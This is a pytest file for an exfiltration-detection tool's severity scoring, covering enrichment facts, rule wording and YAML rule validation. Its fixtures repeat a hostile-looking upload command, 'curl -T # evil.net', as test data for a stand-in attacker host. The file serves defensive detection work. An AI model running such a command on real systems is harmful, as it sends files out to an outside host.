"""The severity follows from facts by rules that are data, and says why."""

from pathlib import Path

import pytest

from exfilwatch.errors import ConfigError
from exfilwatch_playbooks.enrichment.model import Severity, Status
from exfilwatch_playbooks.enrichment.severity import judged, loaded, packaged_rules

from .made import fact

NEW = fact("prevalence.new", "yes", 1)
PLACE = fact("place.class", "no known service")
MUCH = fact("volume.bytes_out", "1.2 GB", 1.2e9)
SOME = fact("volume.bytes_out", "60 MB", 60e6)
OWN = fact("place.class", "own", about="nas.corp.com")
ROUTINE = [
    fact("prevalence.command_hosts", "12", 12, "curl -T # evil.net"),
    fact("prevalence.command_users", "4", 4, "curl -T # evil.net"),
    fact("prevalence.command_days", "28 days", 28, "curl -T # evil.net"),
    fact("prevalence.command_first", "2024-04-01", 0, "curl -T # evil.net"),
]


@pytest.mark.parametrize(
    ("facts", "before", "said"),
    [
        ([], "medium", "medium, which nothing that was looked up changes"),
        ([NEW, PLACE, SOME], "medium", "raised to high: destination new in this organisation, 60 MB out"),
        (
            [NEW, PLACE, MUCH],
            "medium",
            "raised to critical: destination new in this organisation, 1.2 GB out, 1.2 GB out to evil.net",
        ),
        ([PLACE, MUCH], "low", "raised to medium: 1.2 GB out to evil.net"),
        ([NEW, fact("place.class", "private"), MUCH], "low", "low, which nothing that was looked up changes"),
        (
            [NEW, fact("place.class", "file sharing")],
            "low",
            "raised to medium: file sharing that is new in this organisation",
        ),
        (
            [fact("virustotal.verdict", "malicious", 9, source="VirusTotal")],
            "informational",
            "raised to high: VirusTotal has evil.net as malicious",
        ),
        (
            [fact("asset.criticality", "critical", about="")],
            "critical",
            "stays critical: the host is of critical criticality",
        ),
        ([OWN], "medium", "lowered to low: nas.corp.com is one of the organisation's own"),
        ([OWN], "low", "low, which nothing that was looked up changes"),
        ([OWN, PLACE], "medium", "medium, which nothing that was looked up changes"),
        ([OWN, NEW, PLACE, SOME], "medium", "raised to high: destination new in this organisation, 60 MB out"),
        ([PLACE, *ROUTINE], "high", "lowered to medium: the same command runs on 12 hosts since 2024-04-01"),
        (
            [PLACE, fact("place.class", "paste", about="p.net"), *ROUTINE],
            "high",
            "high, which nothing that was looked up changes",
        ),
    ],
)
def test_words(facts, before, said):
    assert judged(before, facts, packaged_rules()).words == said


def test_facts_of_two_destinations_are_not_taken_together():
    apart = [
        NEW,
        PLACE,
        fact("place.class", "cloud storage", about="b.net"),
        fact("volume.bytes_out", "60 MB", 60e6, "b.net"),
    ]
    assert judged("medium", apart, packaged_rules()).after == "medium"


def test_what_is_not_known_changes_nothing():
    failed = fact("virustotal.verdict", "malicious", status=Status.FAILED, reason="no answer")
    assert judged("medium", [failed], packaged_rules()) == Severity(before="medium", after="medium")


def test_every_packaged_rule_says_why_and_can_fire():
    for rule in packaged_rules().rules:
        assert rule.why, rule.id
        assert rule.steps or rule.least, rule.id


def test_a_site_has_rules_of_its_own(tmp_path: Path):
    file = tmp_path / "mine.yml"
    file.write_text(
        "rules: [{id: x, says: 'it is {place.class} at {about}', at least: high, when: {place.class: {is: paste}}}]"
    )
    facts = [fact("place.class", "paste", about="p{volume.bytes_out}.net")]
    assert judged("low", facts, loaded(file)).words == "raised to high: it is paste at p{volume.bytes_out}.net"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("rules: [{id: x}]", "rules.0.says: Field required"),
        ("rules: [{id: x, says: y, when: {a: {at least: lots}}}]", "give an amount such as 500, 100 MB or 1.5 GB"),
        ("rules: [{id: x, says: y, when: {}}]", "rules.0.when"),
        ("rules: {", "not a YAML file"),
    ],
)
def test_wrong_rules_say_what_is_wrong(tmp_path: Path, text, said):
    file = tmp_path / "mine.yml"
    file.write_text(text)
    with pytest.raises(ConfigError) as error:
        loaded(file)
    assert said in str(error.value)
